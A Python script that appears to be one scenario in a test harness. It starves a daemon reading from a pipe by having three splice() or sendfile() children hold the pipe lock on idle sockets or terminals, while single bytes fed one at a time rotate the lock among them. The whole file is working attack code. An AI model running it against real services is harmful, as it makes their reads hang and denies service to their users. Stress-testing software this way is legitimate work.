"""Holds the lock of `output` by three splicers, each with an idle source.

splice() and sendfile() from a socket or a terminal into a pipe sleep and keep the lock of the pipe.
One byte for the splicer with the lock wakes the daemon, and the lock passes to the next splicer: the
read() of the daemon then sleeps too, even a non-blocking one. An ordinary writer waits among them, as
in a real workload. All bytes belong to one long frame, so the content looks correct.

The kernel chooses the next holder of the lock. So the attack feeds some bytes quickly, one after the
other, before it holds the lock for a while.

Arguments: socket, tty or sendfile; seconds to hold the lock; bytes to feed between two holds.
"""

import itertools
import os
import pty
import socket
import time
import tty

from workload import child, did, in_force, open_output, varint, write


def idle(how):
    """Both ends of a source without bytes until the attack feeds some."""
    if how == "tty":
        master, slave = pty.openpty()
        tty.setraw(slave)
        return master, slave
    ours, theirs = socket.socketpair()
    return ours.detach(), theirs.detach()


def splice(how, source, output):
    if how == "sendfile":
        os.sendfile(output, source, None, 4096)
    else:
        os.splice(source, output, 4096)


def trickle(output):
    os.write(output, b"\0")
    time.sleep(0.005)


def run(how="socket", hold="2", bytes_between="10"):
    output = open_output()
    write(output, varint(4 << 20))
    feeds = []
    for _ in range(3):
        feed, source = idle(how)
        child(splice, how, source, output)
        feeds.append(feed)
    child(trickle, output)
    for count in itertools.count(1):
        os.write(feeds[count % 3], b"\0")
        did(count)
        if count % int(bytes_between) == 0:
            if count == 10:
                in_force()
            time.sleep(float(hold))
        time.sleep(0.01)
